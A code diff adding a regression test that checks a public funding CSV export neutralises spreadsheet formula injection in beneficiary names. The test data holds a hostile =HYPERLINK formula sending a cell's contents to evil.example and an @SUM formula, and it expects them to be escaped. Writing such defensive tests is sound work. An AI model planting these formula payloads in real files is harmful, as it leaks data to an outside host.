@@ -14,14 +14,15 @@ import {
   GRANT,
   ROLLOUT,
   readAllGlobal,
+  scenarioCommits,
   steppingClock,
 } from '../../support/projection-scenario.js';
 
 const PERSONAL_DATA_FIELD = /member|person|name(?!Fr|Ar)|phone|email|preparer|approver|payer|actor|judge/i;
 
-const prepared = async () => {
+const prepared = async (commits = scenarioCommits()) => {
   const store = new InMemoryEventStore({ clock: steppingClock(), newId: countingIds() });
-  const recorded = await appendScenario(store);
+  const recorded = await appendScenario(store, commits);
   const events = (await readAllGlobal(store)).map(toProjectedEvent);
   const national = foldAll(nationalProjection, events).get(NATIONAL_KEY)?.view;
   const ledger = foldAll(grantLedgerProjection, events).get(ROLLOUT)?.view;
@@ -82,6 +83,30 @@ describe('the public funding export', () => {
     expect(parsed[0]).toEqual([...FUNDING_FIELDS]);
     expect(parsed.slice(1)).toEqual(
       tricky.map((row) => FUNDING_FIELDS.map((field) => (row[field] === null ? '' : String(row[field])))),
+    );
+  });
+
+  it('neutralises a name that a spreadsheet would evaluate (issue 22, defect 4)', async () => {
+    // Prepare: association A enrolled under names that start formulas.
+    const formulas = { fr: '=HYPERLINK("https://evil.example/?"&A1,"Voir")', ar: '@SUM(1+1)' };
+    const commits = scenarioCommits().map((commit) => ({
+      ...commit,
+      events: commit.events.map((event) =>
+        event.type === 'BeneficiaryEnrolled' && event.data.associationId === ASSOC_A
+          ? { ...event, data: { ...event.data, name: formulas } }
+          : event,
+      ),
+    }));
+    const { store } = await prepared(commits);
+    const deps = { store, clock: () => '2026-12-31T00:00:00.000Z', newId: countingIds('id') };
+    // Act
+    const csv = await route('exportPublicFundingCsv').handle(request({}), deps);
+    // Assess
+    expect(String(csv.body).split('\r\n')[1]).toBe(
+      'rollout-FM-2026,2026,FM,Fès-Meknès,فاس-مكناس,assoc-fm-sefrou-1,' +
+        `"'=HYPERLINK(""https://evil.example/?""&A1,""Voir"")","'@SUM(1+1)",` +
+        'Sefrou,grant-fm-1,decision,,2026-02-02T06:00:00.000Z,3000000,2000000,30000.00,20000.00,2,1,' +
+        'cofunder-ministry:3000000',
     );
   });
 
